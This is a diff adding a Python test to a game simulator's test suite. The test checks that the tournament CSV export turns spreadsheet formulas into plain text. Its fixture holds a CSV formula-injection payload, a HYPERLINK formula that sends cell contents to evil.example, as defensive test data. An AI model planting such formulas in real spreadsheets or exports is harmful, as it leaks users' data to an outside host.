@@ -241,3 +241,38 @@ def test_tournament_command(tmp_path, capsys):
     keys = [(-r["grade_mean"], -r["score"]["mean"]) for r in data["league"]]
     assert keys == sorted(keys)
     assert main(["tournament", "--scenario", "second-visit", "--policy", "nope"]) == 2
+
+
+def test_the_league_csv_never_hands_a_spreadsheet_a_formula():
+    """A strategy's name comes from a file anyone can write: in the CSV a name that a
+    spreadsheet would run as a formula is written as text."""
+    from diplomacy_game.sim.batch import GRADE_ORDER
+    from diplomacy_game.sim.tournament import to_csv
+
+    row = {
+        "rank": 1,
+        "policy": '=HYPERLINK("http://evil.example/?"&A1,"click")',
+        "source": "@SUM(A1:A9)",
+        "games": 6,
+        "grade_mean": 2.5,
+        "grade_sd": 0.5,
+        "grade_ci95": 0.4,
+        "grades": dict.fromkeys(GRADE_ORDER, 0),
+        "endings": {"renewal": 6},
+        **{
+            k: {"mean": -1.5, "sd": 0.1, "ci95": 0.1}
+            for k in (
+                "score",
+                "gdp_gap_pct",
+                "unemployment_pct",
+                "inflation_pct",
+                "approval",
+                "us_rapport",
+            )
+        },
+    }
+    import csv
+
+    read = next(csv.DictReader(to_csv([row]).splitlines()))
+    assert read["policy"] == "'" + row["policy"] and read["source"] == "'@SUM(A1:A9)"
+    assert read["score_mean"] == "-1.5"  # numbers stay numbers
